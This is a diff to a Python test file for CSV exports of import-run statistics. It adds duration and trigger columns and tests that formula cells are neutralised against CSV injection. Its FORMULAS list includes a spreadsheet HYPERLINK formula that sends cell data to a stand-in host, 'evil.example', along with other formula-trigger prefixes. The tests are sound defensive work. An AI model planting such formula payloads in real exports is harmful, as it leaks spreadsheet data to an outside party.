@@ -22,10 +22,18 @@ def body_of(response) -> str:
     return b"".join(response.streaming_content).decode()
 
 
-def test_stats_csv_exact(viewer_client, imp):
+def test_stats_csv_exact(viewer_client, imp, editor):
     base = (timezone.now() - timedelta(hours=3)).replace(microsecond=0)
     base_txt = base.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")
-    factories.make_run(imp, total=1000, failed=250, created_at=base, expected_total=1200)
+    factories.make_run(
+        imp,
+        total=1000,
+        failed=250,
+        created_at=base,
+        expected_total=1200,
+        trigger=ImportRun.Trigger.MANUAL,
+        triggered_by=editor,
+    )
     factories.make_run(
         imp, state=ImportRun.State.SKIPPED, total=0, created_at=base + timedelta(minutes=15)
     )
@@ -36,6 +44,7 @@ def test_stats_csv_exact(viewer_client, imp):
         created_at=base + timedelta(minutes=30),
         error="Invalid credentials.",
         expected_total=None,
+        trigger=ImportRun.Trigger.API,
     )
     stopped = factories.make_run(
         imp, state=ImportRun.State.STOPPED, total=0, created_at=base + timedelta(minutes=45)
@@ -53,12 +62,13 @@ def test_stats_csv_exact(viewer_client, imp):
 
     assert body_of(response) == (
         "Date and Time (UTC),State,Health,Total Records,Successful Syncs,Failed Syncs,"
-        "Expected Records,Note\n"
+        "Expected Records,Note,Duration (seconds),Triggered By\n"
         f"{at(45)},Stopped,,,,,0,"
-        "Stopped — stats not available; 42 records ingested before the stop (partial)\n"
-        f"{at(30)},Failed,Blank,0,0,0,,Invalid credentials.\n"
-        f"{at(15)},Skipped,,,,,0,Skipped — the previous run was still running\n"
-        f"{base_txt},Completed,75.00%,1000,750,250,1200,Total differs from the source count\n"
+        "Stopped — stats not available; 42 records ingested before the stop (partial),30,Schedule\n"
+        f"{at(30)},Failed,Blank,0,0,0,,Invalid credentials.,30,API\n"
+        f"{at(15)},Skipped,,,,,0,Skipped — the previous run was still running,,Schedule\n"
+        f"{base_txt},Completed,75.00%,1000,750,250,1200,Total differs from the source count,"
+        f"30,Run now by {editor.get_username()}\n"
     )
 
 
@@ -111,3 +121,50 @@ def test_failed_records_csv_of_old_run_is_gone(viewer_client, imp):
     assert b"Detailed records are available only for runs completed within the last 30 days" in (
         response.content
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1",
+    "-2",
+    "@x",
+    "\tcmd",
+    "\rcmd",
+]
+
+
+def test_failed_records_csv_neutralises_formula_cells(viewer_client, event_imp):
+    """On SQLite (Python path) and PostgreSQL (COPY path) alike: every text cell a spreadsheet
+    would run as a formula starts with a quote; other cells are untouched."""
+    import csv
+    import io
+
+    run = factories.make_run(event_imp, total=len(FORMULAS) + 1, failed=len(FORMULAS) + 1)
+    specs = [(value, [error(value, "invalid_email")]) for value in FORMULAS]
+    specs.append(("plain\u00a0user", [error("email", "invalid_email")]))
+    make_records(run, specs, event="=1+1")
+    body = body_of(
+        viewer_client.get(reverse("stats-run-failed-export", args=[event_imp.code, run.code]))
+    )
+    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
+    assert [row[1] for row in rows] == ["'" + v for v in FORMULAS] + ["plain\u00a0user"]
+    assert [row[3] for row in rows] == ["'" + v for v in FORMULAS] + ["email"]
+    assert {row[2] for row in rows} == {"'=1+1"}
+    assert [row[0] for row in rows] == [str(n) for n in range(1, len(FORMULAS) + 2)]
+
+
+def test_stats_csv_neutralises_formula_cells(viewer_client, imp):
+    import csv
+    import io
+
+    for i, value in enumerate(FORMULAS):
+        factories.make_run(
+            imp,
+            state=ImportRun.State.FAILED,
+            total=0,
+            created_at=timezone.now() - timedelta(minutes=i + 1),
+            error=value,
+        )
+    body = body_of(viewer_client.get(reverse("stats-export", args=[imp.code])))
+    rows = list(csv.reader(io.StringIO(body, newline="")))[1:]
+    assert [row[7] for row in rows] == ["'" + v for v in FORMULAS]
